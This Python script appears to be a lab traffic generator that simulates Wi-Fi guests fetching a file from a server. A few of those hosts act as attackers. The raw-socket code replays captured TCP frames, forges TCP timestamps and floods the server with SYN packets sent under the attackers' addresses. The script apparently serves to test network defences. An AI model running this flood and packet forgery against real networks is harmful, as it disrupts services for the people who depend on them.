"""Guests on the Wi-Fi, some of whom want the store's tills to be moved.

usage: crowd.py SERVER HOSTS ATTACKERS     (HOSTS addresses from 10.42.65.1 on eth0)

Each host fetches a piece of a file from SERVER:80 each second.  The attackers' packets are
sent again (retransmissions that nobody needed), their acknowledgements are sent again with
timestamps of nobody, and late, and each floods SERVER with SYNs.  Ends with SIGTERM.
"""

import asyncio
import random
import socket
import struct
import sys

PIECE = b"GET /file HTTP/1.0\r\nRange: bytes=0-60000\r\nConnection: close\r\n\r\n"
SYNS_PER_SECOND = 40  # of each attacker
ETH, IP4, TCP, OUTGOING = 14, 0x0800, 6, 4
BASE = 10 << 24 | 42 << 16 | 65 << 8


def address(number):
    return socket.inet_ntoa(struct.pack("!I", BASE + number))


async def fetch(server, own):
    """One piece; who does not get it tries again in a second."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(server, 80, local_addr=(own, 0)), 5)
        writer.write(PIECE)
        await asyncio.wait_for(reader.read(-1), 10)
        writer.close()
    except (OSError, asyncio.TimeoutError):
        pass


async def guest(server, own):
    await asyncio.sleep(random.random())
    while True:
        await fetch(server, own)
        await asyncio.sleep(1)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def with_checksum(frame, header):
    """The frame with a TCP checksum that is right again."""
    ip, tcp = frame[ETH:ETH + header], bytearray(frame[ETH + header:])
    tcp[16:18] = b"\0\0"
    tcp[16:18] = struct.pack("!H", checksum(ip[12:20] + struct.pack("!HH", TCP, len(tcp)) + tcp))
    return frame[:ETH + header] + bytes(tcp)


def lie(frame, header):
    """The same segment with timestamps that nobody sent, if it has any (NOP NOP TS comes first)."""
    at = ETH + header + 20
    if frame[at:at + 4] != b"\1\1\x08\x0a":
        return frame
    return with_checksum(frame[:at + 4] + struct.pack("!II", random.getrandbits(32),
                                                      random.getrandbits(32)) + frame[at + 12:],
                         header)


class Attack:
    """Echoes what the attackers send, some of it with lies, and sends SYNs in their names."""

    def __init__(self, server, attackers):
        self.server, self.attackers = server, attackers
        self.names = {socket.inet_aton(name) for name in attackers}
        self.link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.link.bind(("eth0", 0))
        self.link.setblocking(False)
        self.head = None  # Ethernet and IP header of an attacker's packet

    def begin(self, loop):
        loop.add_reader(self.link.fileno(), self.hear, loop)
        loop.create_task(self.flood())

    def hear(self, loop):
        try:
            frame, origin = self.link.recvfrom(2048)
        except BlockingIOError:
            return
        if origin[2] != OUTGOING or frame[12:14] != b"\x08\x00" or frame[ETH + 9] != TCP or \
                frame[ETH + 12:ETH + 16] not in self.names:
            return
        header = (frame[ETH] & 15) * 4
        self.head = frame[:ETH + 20]
        loop.call_later(0.05, self.send, frame)
        loop.call_later(0.3, self.send, lie(frame, header))

    def send(self, frame):
        try:
            self.link.send(frame)
        except OSError:
            pass

    def syn(self):
        source = random.choice(self.attackers)
        tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), 80, random.getrandbits(32), 0,
                          5 << 4, 2, 65535, 0, 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, TCP, 0,
                         socket.inet_aton(source), socket.inet_aton(self.server))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return with_checksum(self.head[:ETH] + ip + tcp, 20)

    async def flood(self):
        """Its own kernel's RST to the answer is what a spoofing host's would be."""
        while True:
            await asyncio.sleep(0.05)
            for _ in range(max(1, SYNS_PER_SECOND * len(self.attackers) // 20)):
                if self.head:
                    self.send(self.syn())


async def main(server, hosts, attackers):
    loop = asyncio.get_running_loop()
    names = [address(number) for number in range(1, hosts + 1)]
    Attack(server, names[:attackers]).begin(loop)
    for name in names:
        loop.create_task(guest(server, name))
    print("ready", file=sys.stderr, flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
